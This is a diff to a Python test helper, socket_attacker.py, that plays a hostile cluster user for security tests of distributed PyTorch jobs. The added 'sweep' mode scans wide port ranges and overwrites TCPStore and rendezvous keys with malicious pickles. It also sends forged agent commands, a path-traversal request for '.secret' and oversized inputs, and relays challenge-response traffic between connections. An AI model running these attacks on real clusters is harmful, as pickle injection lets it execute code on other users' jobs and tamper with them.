@@ -1,17 +1,23 @@
 """Another user of a cluster, who writes to the stores of jobs: run by test_socket_attacks.py, as root or not.
 
     socket_attacker.py plant PORT ID MARK [HOST]   write to the store of a job from its first moment on
+    socket_attacker.py plants MARK HOST RUN_ID...  the same for the stores of jobs, whose ports follow from the ids
     socket_attacker.py pretend PORT MARK           listen before the job does, with a store that has an answer to all
+    socket_attacker.py sweep MARK HOST...          send to all ports of the hosts, and overwrite all keys of stores
 
-Both print READY once they begin, and end with their standard input.
+They print READY once they begin, and end with their standard input. ``sweep`` prints a line for each kind of service
+that it has reached.
 """
 
 import base64
+import json
 import os
 import pickle
+import socket
+import struct
 import sys
 import time
-from contextlib import suppress
+from contextlib import ExitStack, suppress
 from datetime import timedelta
 from threading import Thread
 
@@ -51,6 +57,18 @@ def plant(port, run_id, mark, host="127.0.0.1"):
         time.sleep(0.02)
 
 
+def plants(mark, host, *run_ids):
+    """Plant in the store of each job, at the port that follows from its number."""
+    threads = []
+    for run_id in run_ids:
+        port = 20_000 + int(run_id.partition("-")[0]) % 10_000
+        threads.append(Thread(target=plant, args=[port, run_id, mark, host], daemon=True))
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+
+
 def pretend(port, mark):
     """Be the store at a job's port."""
     store = TCPStore("0.0.0.0", int(port), is_master=True, wait_for_workers=False)  # noqa: S104 - as a real one
@@ -62,10 +80,92 @@ def pretend(port, mark):
         time.sleep(1)
 
 
+PORTS = (*range(20_000, 30_000), *range(32_768, 61_000))  # of jobs: by their numbers, and free ones of the kernel
+ANSWER_S = 0.3
+_REACHED = set()
+
+
+def sweep(mark, *hosts):
+    """Attack whatever listens on the hosts, until the end: stores, agents, checkpoints in memory, gloo."""
+    print("READY", flush=True)
+    while True:
+        threads = [
+            Thread(target=_attack_port, args=[host, port, mark], daemon=True)
+            for host in hosts
+            for port in PORTS
+            if _listens(host, port)
+        ]
+        for thread in threads:
+            thread.start()
+        for thread in threads:
+            thread.join(10)
+
+
+def _listens(host, port):
+    with socket.socket() as probe:
+        probe.settimeout(0.1)
+        return probe.connect_ex((host, port)) == 0
+
+
+def _attack_port(host, port, mark):
+    with suppress(Exception):
+        _overwrite(host, port, mark)
+    for content in _messages(mark):
+        with suppress(OSError), socket.create_connection((host, port), timeout=ANSWER_S) as connection:
+            with suppress(TimeoutError):
+                if b"challenge" in connection.recv(4096):
+                    _reached("agent")
+            connection.sendall(content)
+            with suppress(TimeoutError):
+                connection.recv(4096)
+    with suppress(OSError):
+        _reflect(host, port)
+
+
+def _overwrite(host, port, mark):
+    """Replace every value of a store by pickles, also under the names that torchrun's rendezvous would read."""
+    pickled = pickle.dumps(Crafted(mark))
+    store = TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=1))
+    names = store.list_keys()
+    _reached("store")
+    for name in [*names, *(f"torch.rendezvous.{name.partition('/')[0]}" for name in names)]:
+        store.set(name, base64.b64encode(pickled) if "rendezvous" in name else pickled)
+
+
+def _messages(mark):
+    """Yield what some protocol of a job might take: objects, orders to agents, requests for memory, a web page's."""
+    pickled = pickle.dumps(Crafted(mark))
+    yield pickled
+    yield struct.pack("<Q", len(pickled)) + pickled
+    yield struct.pack(">Q", len(pickled)) + pickled
+    for message in ({"challenge": "a", "proof": "b"}, {"command": "end", "status": 0}, [], "\ud800", {"challenge": []}):
+        yield json.dumps(message).encode() + b"\n"
+    request = json.dumps(["../../.secret", 0, 64]).encode()
+    yield bytes(64) + b"%b %b\n" % (b"0" * 64, request)
+    yield b"GET / HTTP/1.1\r\n\r\n"
+    yield b"[" * 60_000 + b"\n"
+    yield b"\xff" * 60_000
+
+
+def _reflect(host, port):
+    """Let two connections of a service prove to each other what the other one asks."""
+    with ExitStack() as opened:
+        pair = [opened.enter_context(socket.create_connection((host, port), timeout=ANSWER_S)) for _ in range(2)]
+        for source, target in (pair, pair[::-1]) * 3:
+            with suppress(TimeoutError):
+                target.sendall(source.recv(1 << 16))
+
+
+def _reached(kind):
+    if kind not in _REACHED:
+        _REACHED.add(kind)
+        print(f"REACHED {kind}", flush=True)
+
+
 if __name__ == "__main__":
     if os.geteuid() == 0:
         os.setgroups([])
         os.setresgid(NOBODY, NOBODY, NOBODY)
         os.setresuid(NOBODY, NOBODY, NOBODY)
     Thread(target=lambda: sys.stdin.read() or os._exit(0), daemon=True).start()
-    {"plant": plant, "pretend": pretend}[sys.argv[1]](*sys.argv[2:])
+    {"plant": plant, "plants": plants, "pretend": pretend, "sweep": sweep}[sys.argv[1]](*sys.argv[2:])
